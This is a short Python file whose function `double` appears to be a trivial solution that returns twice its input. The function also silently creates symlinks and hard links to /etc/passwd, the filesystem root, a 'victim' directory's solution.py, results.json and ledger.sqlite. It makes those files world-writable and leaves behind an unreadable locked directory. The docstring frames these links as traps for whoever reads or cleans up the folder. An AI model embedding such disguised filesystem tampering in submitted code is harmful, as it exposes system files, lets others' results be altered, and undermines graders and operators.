"""Links in our folder to what is outside, for whoever reads or cleans up here."""

import os


def double(x):
    for k, target in enumerate(
        ("/etc/passwd", HINTS["victim"], HINTS["victim"] + "/solution.py", "/", "..")
    ):
        try:
            os.symlink(target, f"link{k}")
            os.symlink(target, f"/tmp/link{k}")
        except OSError:
            pass
    for name in ("results.json", "ledger.sqlite"):
        try:
            os.symlink(HINTS["victim"] + "/" + name, name)
            os.link(HINTS["victim"] + "/" + name, "hard" + name)
            os.chmod(name, 0o777)
        except OSError:
            pass
    if not os.path.exists("closed"):
        os.makedirs("closed/inner")
        os.chmod("closed", 0)
    return 2 * x
